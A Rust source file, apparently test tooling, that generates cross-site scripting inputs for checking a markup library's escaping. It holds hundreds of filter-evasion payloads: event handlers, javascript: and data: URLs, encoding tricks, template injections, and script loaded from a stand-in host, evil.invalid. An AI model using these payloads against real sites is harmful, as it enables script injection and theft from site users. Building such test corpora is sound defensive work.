//! Texts that run script where somebody takes a text for HTML, an address, a style, a template or a markup.
//!
//! Made by a grammar, and not taken from a list: the well-known lists are hundreds of variants of few ideas,
//! under licences of their own, and each says `alert(1)`, which no test can see. Ours set `pwned`. Ideas after
//! the filter evasion sheet of OWASP, the PortSwigger and html5sec collections, and what markup of ours are made
//! of.

use standwith::markup::{Attribute, END, Markup, TAGS, Tag};

/// What is to run.
const RUN: &str = "top.pwned=1";

/// Ways out of where a text might stand.
const OUT: [&str; 17] = [
    "",
    "\">",
    "'>",
    "`>",
    "\"/>",
    "</p>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</select>",
    "</option></select>",
    "</noscript>",
    "-->",
    "]]>",
    "\u{7f}/",
    "\"' ",
];

/// Elements that run as they appear; `RUN` stands for what.
const ELEMENTS: &[&str] = &[
    "<script>RUN</script>",
    "<script src=//evil.invalid/x.js></script>",
    "<script src=data:text/javascript,RUN></script>",
    "<script type=module>RUN</script>",
    "<script>RUN//",
    "<script/x>RUN</script\n>",
    "<script\u{c}>RUN</script>",
    "<<script>RUN//<</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<img src=x onerror=RUN>",
    "<img src=x onerror='RUN'>",
    "<img src=x onerror=\"RUN\">",
    "<img src=x onerror=`RUN`>",
    "<img/src=x/onerror=RUN>",
    "<img\tsrc=x\tonerror=RUN>",
    "<img\nsrc=x\nonerror=RUN>",
    "<img\u{c}src=x\u{c}onerror=RUN>",
    "<img src=x onerror=RUN//",
    "<img src=x onerror=&#116;op.pwned&#61;1>",
    "<img src=x onerror=&#x74;op.pwned=1>",
    "<img src=x onerror=\\u0074op.pwned=1>",
    "<img src=x oneonerrorrror=RUN>",
    "<img src=x onerror\u{0}=RUN>",
    "<img src onerror =RUN>",
    "<img src=1 href=1 onerror=\"javascript:RUN\">",
    "<img srcset=x onerror=RUN>",
    "<img src=javascript:RUN>",
    "<img lowsrc=javascript:RUN dynsrc=javascript:RUN>",
    "<img loading=lazy src=x onerror=RUN style=\"position:fixed\">",
    "<image src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=data:text/javascript,RUN /></svg>",
    "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:RUN>",
    "<svg><a><animate attributeName=href values=javascript:RUN /></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=RUN></svg>#x\">",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    "<math><a href=javascript:RUN>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<body onload=RUN>",
    "<body onpageshow=RUN>",
    "<body onhashchange=RUN>",
    "<html onmouseover=RUN>",
    "<iframe src=javascript:RUN></iframe>",
    "<iframe srcdoc=\"<script>RUN</script>\"></iframe>",
    "<iframe srcdoc=&lt;script&gt;RUN&lt;/script&gt;></iframe>",
    "<iframe onload=RUN></iframe>",
    "<iframe src=//evil.invalid/></iframe>",
    "<frameset onload=RUN>",
    "<object data=javascript:RUN></object>",
    "<object data=data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==></object>",
    "<embed src=javascript:RUN>",
    "<embed src=data:image/svg+xml,<svg/onload=RUN>>",
    "<applet code=x onerror=RUN>",
    "<video src=x onerror=RUN></video>",
    "<video><source onerror=RUN></video>",
    "<video poster=javascript:RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<audio onloadstart=RUN src=x></audio>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN></select>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<button autofocus onfocus=RUN>x</button>",
    "<keygen autofocus onfocus=RUN>",
    "<a autofocus tabindex=0 onfocus=RUN>x</a>",
    "<x contenteditable autofocus onfocus=RUN>",
    "<x onclick=RUN>x",
    "<x tabindex=1 onfocusin=RUN id=x>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<dialog open onclose=RUN><form method=dialog><button>x",
    "<div popover id=p onbeforetoggle=RUN>x</div>",
    "<marquee onstart=RUN>x</marquee>",
    "<marquee loop=1 width=0 onfinish=RUN>x</marquee>",
    "<isindex type=image src=x onerror=RUN>",
    "<input type=image src=x onerror=RUN>",
    "<link rel=stylesheet href=data:text/css,*{color:red} onload=RUN>",
    "<link rel=stylesheet href=//evil.invalid/x.css onerror=RUN>",
    "<link rel=prefetch href=//evil.invalid/>",
    "<style onload=RUN>@import '//evil.invalid/x.css';</style>",
    "<style>*{background:url(javascript:RUN)}</style>",
    "<style>@keyframes x{}</style><x style=\"animation-name:x\" onanimationstart=RUN>",
    "<x style=\"transition:color 1s\" ontransitionend=RUN>",
    "<div style=\"width:expression(RUN)\">",
    "<div style=\"background:url(//evil.invalid/)\">",
    "<div style=\"behavior:url(#default#time2)\" onbegin=RUN>",
    "<base href=//evil.invalid/>",
    "<base target=\"<script>RUN</script>\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>RUN</script>\">",
    "<meta http-equiv=set-cookie content=pwned=1>",
    "<form action=javascript:RUN><input type=submit>",
    "<form><button formaction=javascript:RUN>x</button></form>",
    "<form><input type=submit formaction=javascript:RUN>",
    "<form id=f></form><button form=f formaction=javascript:RUN>x",
    "<form name=attributes><input name=nodeName></form>",
    "<img name=body><img name=getElementById>",
    "<a id=StandWith href=//evil.invalid/></a>",
    "<a href=javascript:RUN>x</a>",
    "<a href=\"java&#9;script:RUN\">x</a>",
    "<a href=\"&#14; javascript:RUN\">x</a>",
    "<a href=\"javascript&colon;RUN\">x</a>",
    "<a ping=//evil.invalid/ href=#>x</a>",
    "<area href=javascript:RUN>",
    "<map><area shape=default href=javascript:RUN></map>",
    "<template><script>RUN</script></template>",
    "<template shadowrootmode=open><img src=x onerror=RUN></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=RUN>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=RUN>\">",
    "<plaintext><img src=x onerror=RUN>",
    "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
    "<title><img title=\"</title><img src=x onerror=RUN>\">",
    "<comment><img src=\"</comment><img src=x onerror=RUN>\">",
    "<!--><img src=x onerror=RUN>-->",
    "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    "<?xml-stylesheet href=javascript:RUN?><?x <img src=x onerror=RUN>?>",
    "</br style=a:expression(RUN)>",
    "<table background=javascript:RUN>",
    "<table><td background=javascript:RUN></table>",
    "<stand-with campaign=data:application/json,{} endpoint=javascript:RUN></stand-with>",
    "<slot name=x onslotchange=RUN></slot>",
    "<portal src=javascript:RUN>",
    "<fencedframe src=//evil.invalid/>",
    "<bgsound src=javascript:RUN>",
    "<layer src=//evil.invalid/></layer>",
    "<custom-x is=script onload=RUN>",
    "<button is=x-y onclick=RUN commandfor=p command=show-popover>x</button>",
    "onerror=RUN x=",
    "onfocus=RUN autofocus ",
    " onmouseover=RUN style=position:fixed;inset:0 ",
    "style=x:expression(RUN) ",
    "&lt;img src=x onerror=RUN&gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;RUN",
    "%3Cscript%3ERUN%3C/script%3E",
    "%253Cscript%253ERUN%253C/script%253E",
    "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}RUN\u{ff1c}/script\u{ff1e}",
    "<\u{17f}cript>RUN</\u{17f}cript>",
    "<\u{200b}script>RUN</script>",
    "<scr\u{0}ipt>RUN</scr\u{0}ipt>",
    "\u{202e}>tpircs/<1=denwp.pot>tpircs<",
    "\u{feff}<script>RUN</script>",
    "\u{2028}RUN\u{2028}",
    ";RUN//",
    "\";RUN//",
    "';RUN//",
    "`;RUN//",
    "\\\";RUN//",
    "\\';RUN//",
    "</script><script>RUN</script>",
    "-RUN-",
    "\"-RUN-\"",
    "'-RUN-'",
    "${RUN}",
    "`${RUN}`",
    "{{RUN}}",
    "{{constructor.constructor('RUN')()}}",
    "{{$on.constructor('RUN')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('RUN')}}",
    "{{_c.constructor('RUN')()}}",
    "[[RUN]]",
    "<%= RUN %>",
    "#{RUN}",
    "{%RUN%}",
    "<x ng-app ng-csp ng-focus=$event.view.RUN>",
    "<x v-html=RUN @click=RUN :href=RUN>",
    "<x x-data x-init=RUN>",
    "}*{background:url(//evil.invalid/)}",
    "</style><img src=x onerror=RUN>",
    "*/RUN/*",
    "__proto__",
    "constructor",
    "{\"__proto__\":{\"pwned\":1}}",
    "{\"toString\":\"RUN\"}",
];

/// Addresses that run or lead astray.
const ADDRESSES: &[&str] = &[
    "javascript:RUN",
    "JavaScript:RUN",
    "JAVASCRIPT:RUN",
    "javascript://x%0aRUN",
    "javascript://https://a.invalid/%0aRUN",
    "javascript:RUN//https://",
    "javascript:RUN#https://a.invalid/",
    "javascript:'<script>RUN</script>'",
    "javascript:void(RUN)",
    "javascript:/*https://*/RUN",
    "javascript\u{3a}RUN",
    "javascript&colon;RUN",
    "javascript&#58;RUN",
    "&#106;avascript:RUN",
    "%6aavascript:RUN",
    "javascript%3aRUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "java\rscript:RUN",
    "j\na\nv\na\ns\nc\nr\ni\np\nt:RUN",
    " javascript:RUN",
    "\tjavascript:RUN",
    "\u{1}javascript:RUN",
    "\u{0}javascript:RUN",
    "\u{b}javascript:RUN",
    "\u{1f}javascript:RUN",
    "\u{85}javascript:RUN",
    "\u{a0}javascript:RUN",
    "\u{2028}javascript:RUN",
    "\u{3000}javascript:RUN",
    "\u{feff}javascript:RUN",
    "\u{200b}javascript:RUN",
    "javascript\u{0}:RUN",
    "javascript\t:RUN",
    "java\u{ad}script:RUN",
    "javascript\u{ff1a}RUN",
    "\u{ff4a}avascript:RUN",
    "java\u{17f}cript:RUN",
    "feed:javascript:RUN",
    "view-source:javascript:RUN",
    "jar:javascript:RUN!/x",
    "mocha:RUN",
    "livescript:RUN",
    "vbscript:RUN",
    "VBScript:MsgBox(1)",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:text/html;charset=utf-7,+ADw-script+AD4-RUN",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>",
    "data:application/jose,x\"onerror=RUN",
    "data:application/joseph,<script>RUN</script>",
    "data:,RUN",
    "DATA:text/html,<script>RUN</script>",
    "blob:https://a.invalid/0",
    "filesystem:https://a.invalid/temporary/x.html",
    "file:///etc/passwd",
    "file://evil.invalid/x",
    "about:blank",
    "about:srcdoc",
    "chrome://settings",
    "resource://x/",
    "moz-extension://x/",
    "intent://evil.invalid/#Intent;scheme=http;end",
    "ms-msdt:/id",
    "ftp://evil.invalid/",
    "ws://evil.invalid/",
    "//evil.invalid/",
    "///evil.invalid/",
    "\\\\evil.invalid\\",
    "/\\evil.invalid/",
    "https:evil.invalid",
    "https:/evil.invalid",
    "https:\\\\evil.invalid",
    "http://evil.invalid/",
    "HTTP://evil.invalid/",
    "https://a.invalid@evil.invalid/",
    "https://a.invalid\\@evil.invalid/",
    "https://a.invalid/\"onmouseover=RUN x=\"",
    "https://a.invalid/'onmouseover=RUN x='",
    "https://a.invalid/><script>RUN</script>",
    "https://a.invalid/\u{7f}/'x\u{7f}",
    "https://[::1/javascript:RUN",
    "https://a.invalid:99999/",
    "https://",
    "mailto:a@b.invalid?body=<script>RUN</script>",
    "mailto:\"onmouseover=RUN x=\"",
    "mailto:javascript:RUN",
    "tel:javascript:RUN",
    "tel:\"><img src=x onerror=RUN>",
    "#javascript:RUN",
    "#\"><img src=x onerror=RUN>",
    "?javascript:RUN",
    "javascript.html:RUN",
];

/// What an address may stand in.
const AROUND_ADDRESSES: [&str; 12] = [
    "ADDRESS",
    "[x](ADDRESS)",
    "[x](<ADDRESS>)",
    "![x](ADDRESS)",
    "**[x](ADDRESS)**",
    "[![x](ADDRESS)](ADDRESS)",
    "[x][1]\n\n[1]: ADDRESS",
    "<ADDRESS>",
    "[x](https://a.invalid/ \"ADDRESS\")",
    "- [x](ADDRESS) [y](https://a.invalid/)",
    "## [x](ADDRESS)",
    "[<img src=x onerror=RUN>](ADDRESS)",
];

/// All of them, always in the same order.
pub fn all() -> Vec<String> {
    let mut all = Vec::new();
    for out in OUT {
        all.extend(ELEMENTS.iter().map(|element| [out, &element.replace("RUN", RUN)].concat()));
    }
    // As other people's filters are passed.
    for element in ELEMENTS.iter().filter(|element| element.starts_with('<')) {
        let element = element.replace("RUN", RUN);
        all.push(capital_by_turns(&element));
        all.push(element.replace('>', ""));
        all.push(element.replace(' ', "/").replace("x/on", "x on"));
    }
    for around in AROUND_ADDRESSES {
        let put = |address: &&str| around.replace("ADDRESS", address).replace("RUN", RUN);
        all.extend(ADDRESSES.iter().map(put));
    }
    all.extend(of_plans());
    all
}

/// The letters of tags and attributes in capitals, every other one; what runs stays.
fn capital_by_turns(text: &str) -> String {
    let mut upper = false;
    let turned = text.split(RUN).map(|part| {
        let letter = |c: char| {
            upper = !upper;
            if upper { c.to_ascii_uppercase() } else { c }
        };
        part.chars().map(letter).collect::<String>()
    });
    turned.collect::<Vec<_>>().join(RUN)
}

/// Texts that end a text of a markup, if they could, and go on with one of their own.
fn of_plans() -> Vec<String> {
    let mut markup = Markup::default();
    markup.begin(Tag::A);
    markup.set(Attribute::Href, "javascript:top.pwned=1");
    markup.text("x");
    markup.end();
    let link = markup.as_str().to_owned();
    let codes = (0..=TAGS as u8 + 40).map(|code| char::from(b'0' + code));
    let mut all: Vec<String> = codes.map(|code| format!("{END}{code}x{END}/{END}")).collect();
    for closing in ["", "/", "//", "///", "////", "'", ".", "#0", "#3", "*", "*KH"] {
        all.push(format!("{END}{closing}{link}"));
        all.push(format!("{closing}{link}"));
        all.push(format!("x{END}{closing}"));
    }
    all
}
